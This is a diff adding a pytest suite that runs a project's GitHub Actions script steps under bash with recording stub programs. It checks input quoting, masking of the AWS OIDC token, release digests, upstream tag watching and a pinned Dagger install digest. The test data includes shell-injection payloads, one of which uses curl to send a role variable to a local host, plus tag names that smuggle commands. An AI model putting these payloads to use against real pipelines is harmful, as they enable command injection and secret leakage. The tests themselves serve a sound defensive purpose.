@@ -1,0 +1,390 @@
+"""The `run` blocks of the workflows, run by bash as GitHub runs them, with programs that record.
+
+`dagger`, `gh`, `curl` and the like only write down their words, besides what a test has them do.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import io
+import os
+import re
+import shutil
+import subprocess
+import tarfile
+from collections.abc import Mapping
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+
+CHECKOUT = Path(__file__).parents[2]
+PROGRAMS = ("curl", "dagger", "gh", "git", "jq", "pip", "uv")
+UPSTREAM = "https://github.com/open-telemetry/opentelemetry-lambda"
+RELEASE, WATCH, CI = "release-layers.yml", "upstream-watch.yml", "ci.yml"
+NEWEST = "layer-collector/0.19.0"
+BRANCH = f"upstream/{NEWEST}"
+TOKEN, BEARER = "ey.token", "bearer-of-the-job"
+HOSTILE = [
+    '"; touch pwned; curl http://127.0.0.1:9/?$AWS_ROLE_TO_ASSUME #',
+    "$(touch pwned)",
+    "`touch pwned`",
+    "'; touch pwned; '",
+    "a\ntouch pwned\nb",
+    "a && touch pwned || touch pwned",
+    "*",
+]
+
+Step = tuple[str, str, str]
+
+
+def run_steps() -> dict[Step, Mapping[str, Any]]:
+    """The steps that run a script, by workflow, job and name, with all that is set for them."""
+    found: dict[Step, Mapping[str, Any]] = {}
+    for workflow in (RELEASE, WATCH, CI):
+        text = (CHECKOUT / ".github" / "workflows" / workflow).read_text(encoding="utf-8")
+        parsed: dict[str, Any] = yaml.safe_load(text)
+        for name, job in parsed["jobs"].items():
+            for step in [each for each in job["steps"] if "run" in each]:
+                env = {**parsed.get("env", {}), **job.get("env", {}), **step.get("env", {})}
+                found[workflow, name, step["name"]] = {**step, "env": env}
+    return found
+
+
+STEPS = run_steps()
+NAMES = sorted({name for step in STEPS.values() for name in step["env"]})
+
+
+@dataclass
+class Job:
+    """A job's workspace and files on this machine."""
+
+    folder: Path
+
+    def __post_init__(self) -> None:
+        self.workspace.mkdir()
+        (self.folder / "bin").mkdir()
+        shutil.copytree(CHECKOUT / ".github", self.workspace / ".github")
+        for name in PROGRAMS:
+            self.have(name)
+
+    @property
+    def workspace(self) -> Path:
+        return self.folder / "workspace"
+
+    def have(self, program: str, does: str = "") -> None:
+        """Have a program write down its words in one go, then do this."""
+        note = f'printf "%s\\0" {program} "$@" END >> "{self.folder}/calls"'
+        path = self.folder / "bin" / program
+        path.write_text(f"#!/bin/bash\n{note}\n{does}\n")
+        path.chmod(0o755)
+
+    def run(self, step: Step, **env: str) -> subprocess.CompletedProcess[str]:
+        """Run a step; variables that are not given have the value that stands in the workflow."""
+        block = STEPS[step]
+        plain = {k: str(v) for k, v in block["env"].items() if "${{" not in str(v)}
+        environment = {
+            "PATH": os.pathsep.join([str(self.folder / "bin"), os.environ["PATH"]]),
+            "HOME": str(self.folder),
+            "GITHUB_REPOSITORY": "acme/layers",
+            "GITHUB_OUTPUT": str(self.folder / "output"),
+            "GITHUB_PATH": str(self.folder / "path"),
+            "GITHUB_STEP_SUMMARY": str(self.folder / "summary"),
+            "RUNNER_TEMP": str(self.folder),
+            "ACTIONS_ID_TOKEN_REQUEST_URL": "https://token.invalid/?v=1",
+            "ACTIONS_ID_TOKEN_REQUEST_TOKEN": BEARER,
+            "GIT_CONFIG_NOSYSTEM": "1",
+            **plain,
+            **env,
+        }
+        return subprocess.run(
+            ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", block["run"]],
+            cwd=self.workspace,
+            env=environment,
+            capture_output=True,
+            text=True,
+            check=False,
+            timeout=60,
+        )
+
+    def read(self, name: str) -> str:
+        """What the steps wrote to one of GitHub's files."""
+        path = self.folder / name
+        return path.read_text() if path.exists() else ""
+
+    def calls(self, *words: str) -> list[list[str]]:
+        """The calls of programs that begin with these words, each with the program's name."""
+        calls = [call.split("\0") for call in self.read("calls").split("\0END\0")[:-1]]
+        return [call for call in calls if tuple(call[: len(words)]) == words]
+
+
+@pytest.fixture
+def job(tmp_path: Path) -> Job:
+    return Job(tmp_path)
+
+
+def value_of(call: list[str], option: str) -> str:
+    return call[call.index(option) + 1]
+
+
+# --- inputs, variables and secrets are words ---
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_a_value_stays_one_word_of_a_command_and_nothing_of_it_runs(
+    tmp_path: Path, value: str
+) -> None:
+    calls: dict[str, list[list[str]]] = {}
+    for given in ("plain", value):
+        (tmp_path / str(len(calls))).mkdir()
+        job = Job(tmp_path / str(len(calls)))
+        job.have("curl", f"echo '{TOKEN}'")
+        job.have("jq", "cat")
+        for step in STEPS:
+            job.run(step, **{name: given for name in NAMES if name in STEPS[step]["env"]})
+        # the folder is another each time, and programs of a pipe start at the same time
+        calls[given] = sorted(
+            [word.replace(str(job.folder), "").replace(value, "plain") for word in call]
+            for call in job.calls()
+        )
+    assert calls[value] == calls["plain"]
+    called = {call[2] for call in calls[value] if call[:2] == ["dagger", "call"]}
+    assert called == {"lock", "build", "config-check", "publish", "fetch", "verify"}
+    assert list(tmp_path.rglob("pwned")) == []
+
+
+def test_every_option_has_the_value_that_was_chosen(job: Job) -> None:
+    chosen = {name: f"<{name}>" for name in NAMES}
+    for name in ("Lock", "Build"):
+        assert job.run((RELEASE, "build", name), **chosen).returncode == 0
+    job.have("curl", "echo x")
+    job.have("jq", f"cat > /dev/null; echo {TOKEN}")
+    assert job.run((RELEASE, "publish", "Publish"), **chosen).returncode == 0
+    (build,), (publish,) = (
+        job.calls("dagger", "call", "build"),
+        job.calls("dagger", "call", "publish"),
+    )
+    for call in (*job.calls("dagger", "call", "lock"), build):
+        assert value_of(call, "--distribution") == "<DISTRIBUTION>"
+        assert value_of(call, "--upstream-repo") == "<UPSTREAM_REPO>"
+        assert value_of(call, "--upstream-ref") == "<UPSTREAM_REF>"
+    assert value_of(build, "--architecture") == "<ARCHITECTURE>"
+    assert {option: value_of(publish, option) for option in publish if option.startswith("--")} == {
+        "--layers": "dist",
+        "--regions": "<REGIONS>",
+        "--release-group": "<RELEASE_GROUP>",
+        "--layer-name": "<LAYER_NAME>",
+        "--bucket": "<BUCKET>",
+        "--public": "--dry-run",
+        "--dry-run": "--no-bench",
+        "--no-bench": "--table",
+        "--table": "<DYNAMODB_TABLE_NAME>",
+        "--table-region": "<TABLE_REGION>",
+        "--role-arn": "<AWS_ROLE_TO_ASSUME>",
+        "--oidc-token": "env:OIDC_TOKEN",
+        "--path": "published",
+    }
+
+
+def test_a_switch_that_is_off_is_not_named(job: Job) -> None:
+    off = dict.fromkeys(NAMES, "")
+    job.have("jq", f"cat > /dev/null; echo {TOKEN}")
+    job.run((RELEASE, "build", "Build"), **off)
+    job.run((RELEASE, "publish", "Publish"), **off)
+    words = {word for call in job.calls("dagger") for word in call}
+    assert words & {"--bench", "--no-bench", "--public", "--dry-run"} == set()
+    assert "--locked" in words
+
+
+# --- the token for AWS ---
+
+
+def test_the_token_is_hidden_first_and_in_no_programs_words(job: Job) -> None:
+    job.have("curl", 'cat > "$RUNNER_TEMP/headers"; echo x')
+    job.have("jq", f"cat > /dev/null; echo {TOKEN}")
+    job.have("dagger", 'echo "dagger has $OIDC_TOKEN"')
+    for name in ("Publish", "Fetch what AWS serves"):
+        done = job.run((RELEASE, "publish", name), **dict.fromkeys(NAMES, "x"))
+        assert done.stdout.splitlines() == [f"::add-mask::{TOKEN}", f"dagger has {TOKEN}"]
+    assert job.read("headers") == f"Authorization: bearer {BEARER}\n"
+    asked = [call[-1] for call in job.calls("curl")]  # they live five minutes: each has its own
+    assert asked == ["https://token.invalid/?v=1&audience=sts.amazonaws.com"] * 2
+    words = " ".join(word for call in job.calls() for word in call)
+    assert TOKEN not in words
+    assert BEARER not in words
+
+
+@pytest.mark.parametrize(("program", "does"), [("curl", "exit 22"), ("jq", "echo null; exit 1")])
+def test_without_a_token_nothing_is_published(job: Job, program: str, does: str) -> None:
+    job.have(program, does)
+    assert job.run((RELEASE, "publish", "Publish"), **dict.fromkeys(NAMES, "x")).returncode != 0
+    assert job.calls("dagger") == []
+
+
+# --- what a release consists of ---
+
+
+def test_a_releases_files_are_collected_with_their_digests_and_told(job: Job) -> None:
+    made = {
+        "layers/dist/a.zip": "zip",
+        "layers/dist/manifest.json": "{}",
+        "layers/config/ocelot.lock": "lock",
+        "published/publish.md": "### Published\n",
+        "published/publish.json": "{}",
+        "verified/verification.md": "### Verified\n",
+    }
+    for name, text in made.items():
+        path = job.workspace / "made" / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text)
+    for name in ("Collect it", "Fill in the summary"):
+        done = job.run((RELEASE, "release", name), LAYERS_DIGEST="d1g35t")
+        assert done.returncode == 0, done.stderr
+    release = job.workspace / "release"
+    names = {Path(name).name for name in made}
+    assert {path.name for path in release.iterdir()} == {*names, "SHA256SUMS"}
+    sums = dict(
+        line.split("  ")[::-1] for line in (release / "SHA256SUMS").read_text().splitlines()
+    )
+    assert sums == {
+        name: hashlib.sha256((release / name).read_bytes()).hexdigest() for name in names
+    }
+    lines = job.read("summary").splitlines()
+    assert {"### Published", "### Verified", "### Files"} <= set(lines)
+    assert all(f"    {digest}  {name}" in lines for name, digest in sums.items())
+    assert "d1g35t" in job.read("summary")
+
+
+def test_each_zips_attestation_is_checked_and_one_that_is_bad_fails(job: Job) -> None:
+    (job.workspace / "served").mkdir()
+    zips = ["served/a.zip", "served/b c.zip"]
+    for name in zips:
+        (job.workspace / name).touch()
+    step, env = (RELEASE, "verify", "Check the attestations"), {"LAYERS": "served", "SIGNER": "us"}
+    assert job.run(step, **env).returncode == 0
+    checked = job.calls("gh", "attestation", "verify")
+    assert [call[3] for call in checked] == zips
+    assert {value_of(call, "--signer-workflow") for call in checked} == {"us"}
+    job.have("gh", "exit 1")
+    assert job.run(step, **env).returncode != 0
+
+
+# --- the watch over upstream ---
+
+
+def git(folder: Path, *arguments: str) -> str:
+    who = ("-c", "user.name=ocelot", "-c", "user.email=ocelot@localhost")
+    done = subprocess.run(
+        ["git", *who, *arguments], cwd=folder, capture_output=True, text=True, check=True
+    )
+    return done.stdout
+
+
+def look(job: Job, *tags: str) -> subprocess.CompletedProcess[str]:
+    """Look for a release of an upstream that has these tags."""
+    upstream = job.folder / "upstream"
+    git(job.folder, "init", "--quiet", str(upstream))
+    git(upstream, "commit", "--quiet", "--allow-empty", "--message", "Something")
+    for tag in tags:
+        git(upstream, "tag", tag)
+    (job.folder / "bin" / "git").unlink()
+    return job.run(
+        (WATCH, "lock", "Look for a release"),
+        GIT_CONFIG_COUNT="1",
+        GIT_CONFIG_KEY_0=f"url.{upstream}.insteadOf",
+        GIT_CONFIG_VALUE_0=UPSTREAM,
+    )
+
+
+@pytest.mark.parametrize(
+    "other",
+    [
+        "layer-collector/0.9.0",
+        "layer-collector/0.20.0-rc1",
+        "layer-nodejs/0.25.0",
+        "layer-collector/1.0.0;touch${IFS}pwned",
+        "layer-collector/$(id)",
+        "layer-collector/9.9'",
+    ],
+)
+def test_the_newest_release_is_found_and_whether_it_was_proposed(job: Job, other: str) -> None:
+    job.have("gh", "echo 1")
+    done = look(job, NEWEST, other)
+    assert done.returncode == 0, done.stderr
+    assert job.read("output").splitlines() == [f"tag={NEWEST}", "proposed=1"]
+    (asked,) = job.calls("gh", "pr", "list")
+    assert (value_of(asked, "--head"), value_of(asked, "--state")) == (BRANCH, "all")
+    assert list(job.folder.rglob("pwned")) == []
+
+
+def test_an_upstream_without_releases_fails_the_job(job: Job) -> None:
+    assert look(job, "layer-nodejs/0.25.0").returncode != 0
+    assert job.calls("gh") == []
+
+
+@pytest.fixture
+def checkout(job: Job) -> Path:
+    """The job's workspace as a clone of a repository with a lock; git is the real one."""
+    (job.folder / "bin" / "git").unlink()
+    work = job.workspace
+    (work / "config").mkdir()
+    (work / "config" / "ocelot.lock").write_text("old\n")
+    git(work, "init", "--quiet", "--initial-branch", "main")
+    git(work, "add", "--all")
+    git(work, "commit", "--quiet", "--message", "All of it")
+    git(job.folder, "clone", "--quiet", "--bare", str(work), "origin.git")
+    git(work, "remote", "add", "origin", str(job.folder / "origin.git"))
+    return work
+
+
+@pytest.mark.parametrize(("lock", "changed"), [("old", ""), ("new", "true")])
+def test_a_lock_that_changed_is_told(job: Job, checkout: Path, lock: str, changed: str) -> None:
+    job.have("dagger", f"echo {lock} > {checkout}/config/ocelot.lock")
+    assert job.run((WATCH, "lock", "Lock it"), TAG=NEWEST).returncode == 0
+    assert job.read("output") == f"changed={changed}\n"
+    (call,) = job.calls("dagger", "call", "lock")
+    assert value_of(call, "--upstream-ref") == NEWEST
+    assert "--upgrade" in call
+
+
+def test_the_lock_alone_is_proposed_whatever_an_earlier_run_left_behind(
+    job: Job, checkout: Path
+) -> None:
+    origin = job.folder / "origin.git"
+    git(checkout, "switch", "--quiet", "--create", BRANCH)
+    git(checkout, "commit", "--quiet", "--allow-empty", "--message", "Half of it")
+    git(checkout, "push", "--quiet", "origin", BRANCH)
+    git(checkout, "switch", "--quiet", "main")
+    git(checkout, "branch", "--quiet", "-D", BRANCH)
+    for name in ("config/ocelot.lock", "else"):
+        (checkout / name).write_text("new\n")
+    done = job.run((WATCH, "propose", "Open a pull request"), TAG=NEWEST, BASE="main")
+    assert done.returncode == 0, done.stderr
+    assert git(origin, "diff", "--name-only", "main", BRANCH).split() == ["config/ocelot.lock"]
+    assert git(origin, "rev-list", "--count", f"main..{BRANCH}").strip() == "1"
+    (made,) = job.calls("gh", "pr", "create")
+    options = [value_of(made, each) for each in ("--base", "--head", "--title")]
+    assert options == ["main", BRANCH, f"Upstream {NEWEST}"]
+
+
+# --- installing Dagger ---
+
+
+@pytest.mark.parametrize("genuine", [True, False])
+def test_dagger_is_installed_where_the_archive_has_the_pinned_digest(
+    job: Job, *, genuine: bool
+) -> None:
+    archive = job.folder / "archive"
+    with tarfile.open(archive, "w:gz") as tar:
+        tar.addfile(tarfile.TarInfo("dagger"), io.BytesIO())
+    digest = hashlib.sha256(archive.read_bytes()).hexdigest()
+    script = job.workspace / ".github" / "install-dagger"
+    if genuine:
+        script.write_text(re.sub(r"(?m)^sha256=\w+", f"sha256={digest}", script.read_text()))
+    job.have("curl", f'while [ "$1" != -o ]; do shift; done; cp {archive} "$2"')
+    done = job.run((RELEASE, "build", "Install Dagger"))
+    installed = job.folder / "dagger" / "dagger"
+    assert (done.returncode == 0, installed.exists()) == (genuine, genuine)
+    assert job.read("path") == (f"{installed.parent}\n" if genuine else "")
